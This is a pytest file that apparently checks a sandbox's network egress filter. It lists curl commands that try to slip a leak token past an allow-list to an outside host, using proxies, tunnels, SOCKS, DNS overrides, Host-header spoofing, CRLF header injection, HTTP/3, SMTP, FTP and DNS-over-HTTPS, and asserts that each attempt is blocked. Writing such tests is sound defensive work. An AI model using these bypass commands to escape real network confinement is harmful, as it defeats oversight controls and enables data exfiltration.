"""Tools that are told to go through somebody else."""

from __future__ import annotations

import pytest

from .confined import ALLOWED, ALLOWED_ADDRESS, LEAK, OTHER
from .conftest import Confine

_CURLS = {
    "plain proxy": f"curl -sS -m 10 -x http://{ALLOWED}:80 http://{OTHER}/{LEAK}",
    "tunnel": f"curl -sSk -m 10 -x http://{ALLOWED}:80 https://{OTHER}/{LEAK}",
    "tunnel for http": f"curl -sS -m 10 -p -x http://{ALLOWED}:80 http://{OTHER}/{LEAK}",
    "proxy over tls": f"curl -sSk -m 10 --proxy-insecure -x https://{ALLOWED}:443 http://{OTHER}/{LEAK}",
    "socks 4": f"curl -sS -m 10 -x socks4a://{ALLOWED}:80 http://{OTHER}/{LEAK}",
    "socks 5": f"curl -sS -m 10 -x socks5h://{ALLOWED}:80 http://{OTHER}/{LEAK}",
    "variables": f"https_proxy=http://{ALLOWED}:80 all_proxy=http://{ALLOWED}:80 "
    f"curl -sSk -m 10 https://{OTHER}/{LEAK}",
    "another address for the name": f"curl -sSk -m 10 --resolve {OTHER}:443:{ALLOWED_ADDRESS} "
    f"https://{OTHER}/{LEAK}",
    "another connection": f"curl -sSk -m 10 --connect-to {OTHER}:443:{ALLOWED}:443 "
    f"https://{OTHER}/{LEAK}",
    "another host": f"curl -sSk -m 10 -H 'Host: {OTHER}' https://{ALLOWED}/{LEAK}",
    "an agreed upgrade": f"curl -sS -m 10 --http2 -H 'Host: {OTHER}' http://{ALLOWED}/{LEAK}",
    "prior knowledge": f"curl -sS -m 10 --http2-prior-knowledge -H 'Host: {OTHER}' "
    f"http://{ALLOWED}/{LEAK}",
    "line ends in a header": f"curl -sSk -m 10 -H $'X: y\\r\\nHost: {OTHER}' https://{ALLOWED}/{LEAK}",
    "http 3": f"curl -sSk -m 10 --http3 https://{ALLOWED}/{LEAK}",
    "an address": f"curl -sSk -m 10 https://{ALLOWED_ADDRESS}/{LEAK}",
    "a mail": f"curl -sS -m 10 smtp://{OTHER}:25 --mail-from {LEAK}@x",
    "a file transfer": f"curl -sS -m 10 ftp://{OTHER}/{LEAK}",
    "names over https": f"curl -sSk -m 10 --doh-url https://1.1.1.1/dns-query https://{OTHER}/{LEAK}",
}


@pytest.mark.parametrize("way", _CURLS)
def test_no_detour_leads_out(confine: Confine, way: str) -> None:
    inside = confine(
        [{"action": "allow", "host": ALLOWED, "ports": [80, 443], "methods": ["GET", "POST"]}]
    )
    result = inside.sandbox.run(["bash", "-c", _CURLS[way]], timeout=30)
    answered = result.stdout
    assert answered == "" or "egress_denied" in answered or "egress_failed" in answered, answered
    assert inside.outside.record.requests == []
    inside.nothing_got_out(but={ALLOWED_ADDRESS})
